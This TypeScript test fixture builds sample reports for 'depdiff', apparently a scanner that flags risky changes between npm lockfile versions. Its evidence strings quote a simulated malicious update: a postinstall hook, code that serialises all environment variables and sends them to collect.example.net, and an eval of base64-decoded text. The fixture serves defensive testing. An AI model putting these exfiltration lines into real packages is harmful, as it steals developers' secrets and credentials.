import { npmCodeUrl } from '../../src/model/npm-links.js';
import type { ChangeReport, Finding, LockedPackage, Report } from '../../src/model/types.js';

export function locked(name: string, version: string, line: number, extra: Partial<LockedPackage> = {}): LockedPackage {
  return {
    name,
    version,
    resolved: `https://registry.npmjs.org/${name}/-/${name.replace(/^@[^/]+\//, '')}-${version}.tgz`,
    integrity: 'sha512-AAAA',
    source: 'registry',
    direct: false,
    dev: false,
    optional: false,
    paths: [`node_modules/${name}`],
    line,
    ...extra,
  };
}

export function changeReport(
  name: string,
  from: string | null,
  to: string | null,
  findings: Finding[],
  extra: Partial<ChangeReport> = {},
): ChangeReport {
  const type = from === null ? 'added' : to === null ? 'removed' : 'updated';
  const lockfile = extra.lockfile ?? 'package-lock.json';
  return {
    name,
    from,
    to,
    type,
    direct: false,
    dev: false,
    lockfile,
    ...(from === null ? {} : { before: locked(name, from, 120) }),
    ...(to === null ? {} : { after: locked(name, to, 140) }),
    // As the engine does: code locations carry a link to the version's code on the npm website.
    findings: findings.map((finding) =>
      finding.file !== undefined && finding.file !== lockfile && finding.url === undefined
        ? { ...finding, url: npmCodeUrl(name, (to ?? from)!) }
        : finding,
    ),
    worst: null,
    ...extra,
  };
}

/** A review of two lockfiles with findings of every severity, an acknowledged one, an error and notes. */
export function sampleReport(): Report {
  const changes: ChangeReport[] = [
    changeReport(
      'event-stream-helper',
      '3.3.4',
      '3.3.6',
      [
        {
          kind: 'install-script',
          severity: 'critical',
          message: 'event-stream-helper@3.3.6 adds a postinstall script: node lib/setup.js.',
          file: 'package.json',
          line: 9,
          evidence: '"postinstall": "node lib/setup.js"',
        },
        {
          kind: 'network',
          severity: 'high',
          message: 'lib/setup.js newly loads the `https` module and contacts collect.example.net.',
          file: 'lib/setup.js',
          line: 4,
          evidence: "const https = require('https');\nhttps.get('https://collect.example.net/?d=' + data);",
        },
        { kind: 'env', severity: 'high', message: 'lib/setup.js newly enumerates all environment variables.', file: 'lib/setup.js', line: 2, evidence: 'const data = JSON.stringify(process.env);' },
        { kind: 'maintainer-change', severity: 'medium', message: 'Published by right9ctrl, who never published this package before.' },
      ],
      {
        direct: true,
        worst: 'critical',
        packageJsonDiff: '--- a/package.json\n+++ b/package.json\n@@ -7,4 +7,5 @@\n   "scripts": {\n+    "postinstall": "node lib/setup.js",\n     "test": "tap"\n   },',
        after: locked('event-stream-helper', '3.3.6', 140, { direct: true, hasInstallScript: true }),
      },
    ),
    changeReport(
      '@acme/logger',
      '1.2.0',
      '1.3.0',
      [
        { kind: 'shell', severity: 'medium', message: 'dist/index.js newly calls child_process.exec.', file: 'dist/index.js', line: 88, evidence: "exec('git rev-parse HEAD')" },
        { kind: 'deprecated', severity: 'low', message: '@acme/logger@1.3.0 is deprecated: "use @acme/log2".' },
        { kind: 'new-dependency', severity: 'info', message: '@acme/logger@1.3.0 adds the dependency tiny-color.' },
        {
          kind: 'network',
          severity: 'high',
          message: 'dist/telemetry.js newly loads the `http` module.',
          file: 'dist/telemetry.js',
          line: 12,
          acknowledged: { reason: 'Opt-in telemetry, reviewed by the platform team', expires: '2026-06-30' },
        },
      ],
      { direct: true, worst: 'medium' },
    ),
    changeReport('tiny-color', null, '0.4.1', [{ kind: 'recently-published', severity: 'low', message: 'tiny-color@0.4.1 was published 5 hours ago.' }], {
      worst: 'low',
    }),
    changeReport('left-pad', '1.3.0', null, [], {}),
    changeReport('lodash', '4.17.20', '4.17.21', [], { dev: true }),
    changeReport('chalk', '5.3.0', '5.4.1', [{ kind: 'eval', severity: 'high', message: 'source/index.js newly calls eval on a decoded string.', file: 'source/index.js', line: 31, evidence: "eval(Buffer.from(s, 'base64').toString())" }], {
      lockfile: 'packages/web/pnpm-lock.yaml',
      worst: 'high',
    }),
    changeReport('react', '18.2.0', '18.3.1', [], { lockfile: 'packages/web/pnpm-lock.yaml', direct: true }),
  ];
  return {
    schemaVersion: 1,
    tool: { name: 'depdiff', version: '0.1.0' },
    verdict: 'fail',
    failOn: 'high',
    generatedAt: '2026-03-10T12:00:00.000Z',
    lockfiles: [
      { path: 'package-lock.json', format: 'npm', changes: 5 },
      { path: 'packages/web/pnpm-lock.yaml', format: 'pnpm', changes: 2 },
    ],
    changes,
    errors: [{ name: 'big-binary', version: '2.0.0', message: 'The tarball is larger than 200 MB.', code: 'ELIMIT' }],
    notes: ['The registry omits _npmUser for some versions, so publisher changes could not be checked for 1 package.'],
    counts: { critical: 1, high: 3, medium: 2, low: 2, info: 1, acknowledged: 1 },
  };
}
